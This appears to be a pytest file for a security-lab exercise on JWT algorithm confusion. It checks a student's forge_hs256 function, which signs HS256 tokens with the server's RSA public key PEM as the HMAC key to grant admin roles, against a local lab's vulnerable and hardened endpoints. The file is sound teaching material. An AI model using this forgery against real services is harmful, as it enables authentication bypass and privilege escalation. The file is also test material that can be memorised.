"""Checks for exercise 14: the algorithm-confusion forgery, built by hand."""

import hashlib
import hmac

import jwt
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from jwt.algorithms import RSAAlgorithm
from jwt.utils import base64url_decode

CLAIMS = {
    "iss": "http://lab",
    "aud": "lab-api",
    "sub": "bob",
    "roles": ["admin"],
    "exp": 1_800_000_300,
}


@pytest.fixture(scope="module")
def public_key():
    return rsa.generate_private_key(public_exponent=65537, key_size=2048).public_key()


def pem_of(key):
    return key.public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )


def test_pem_from_jwk_gives_the_servers_exact_pem(impl, public_key):
    """pem_from_jwk() returns the SubjectPublicKeyInfo PEM bytes of the JWK's key."""
    jwk = {
        **RSAAlgorithm.to_jwk(public_key, as_dict=True),
        "kid": "rs256-1",
        "alg": "RS256",
        "use": "sig",
    }
    pem = impl.pem_from_jwk(jwk)
    assert isinstance(pem, bytes), "return bytes (public_bytes returns bytes)"
    assert pem == pem_of(public_key), (
        "Encoding.PEM with PublicFormat.SubjectPublicKeyInfo: the exact bytes"
    )


def test_the_forgery_has_the_confused_header(impl, public_key):
    """forge_hs256() writes alg HS256, typ at+jwt and the given kid in the header."""
    header = jwt.get_unverified_header(impl.forge_hs256(CLAIMS, pem_of(public_key), "rs256-1"))
    assert header == {"alg": "HS256", "typ": "at+jwt", "kid": "rs256-1"}, (
        "exactly these three header fields"
    )


def test_the_forgery_carries_the_claims(impl, public_key):
    """forge_hs256() puts the claims in the payload unchanged."""
    forged = impl.forge_hs256(CLAIMS, pem_of(public_key), "rs256-1")
    assert jwt.decode(forged, options={"verify_signature": False}) == CLAIMS, (
        "the payload is the claims, as JSON"
    )


def test_the_signature_is_the_hmac_keyed_with_the_pem(impl, public_key):
    """The signature is HMAC-SHA256 over header.payload keyed with the PEM bytes."""
    pem = pem_of(public_key)
    forged = impl.forge_hs256(CLAIMS, pem, "rs256-1")
    signing_input, _, signature = forged.rpartition(".")
    assert "=" not in forged and "+" not in forged and "/" not in forged, (
        "base64url without padding"
    )
    expected = hmac.new(pem, signing_input.encode(), hashlib.sha256).digest()
    assert base64url_decode(signature.encode()) == expected, (
        "hmac.new(pem, signing_input, hashlib.sha256)"
    )


def test_the_forgery_works_against_the_confused_endpoint_and_not_the_hardened_one(impl):
    """Against a live lab: /vulnerable/alg-confusion/me accepts it, /api/me refuses it."""
    from labserver import start_lab
    from labserver.users import PASSWORDS

    lab = start_lab(vulnerable=True, replace=False, redis_url="")
    try:
        http = lab.client()
        jwk = next(
            k for k in http.get("/.well-known/jwks.json").json()["keys"] if k["alg"] == "RS256"
        )
        mine = http.post(
            "/oauth/token", json={"username": "bob", "password": PASSWORDS["bob"]}
        ).json()["access_token"]
        claims = {**jwt.decode(mine, options={"verify_signature": False}), "roles": ["admin"]}
        forged = impl.forge_hs256(claims, impl.pem_from_jwk(jwk), jwk["kid"])
        answer = http.get(
            "/vulnerable/alg-confusion/me", headers={"Authorization": f"Bearer {forged}"}
        )
        assert answer.status_code == 200 and answer.json()["roles"] == ["admin"], answer.text
        # A verifier that pins RS256 to the RSA key (PyJWT, or the lab's /api/me) refuses it.
        hardened = http.get("/api/me", headers={"Authorization": f"Bearer {forged}"})
        assert hardened.status_code == 401
        assert hardened.json()["error_description"].startswith("algorithm not allowed")
    finally:
        lab.stop()
